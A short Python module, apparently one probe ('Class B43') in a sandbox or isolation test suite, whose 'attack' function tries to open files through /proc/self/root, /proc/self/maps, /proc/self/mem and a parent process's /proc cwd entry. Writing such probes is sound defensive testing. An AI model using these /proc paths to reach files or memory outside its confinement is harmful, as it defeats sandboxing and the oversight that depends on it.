"""Reaches files through /proc/self and the parent's /proc entries. Class B43."""

import os


def attack(bait):
    found = []
    for path in ("/proc/self/root" + bait["path"], "/proc/self/maps", "/proc/self/mem", f"/proc/{bait['pid']}/cwd/README.md"):
        try:
            found.append(os.open(path, os.O_RDONLY))
        except OSError:
            pass
    return found
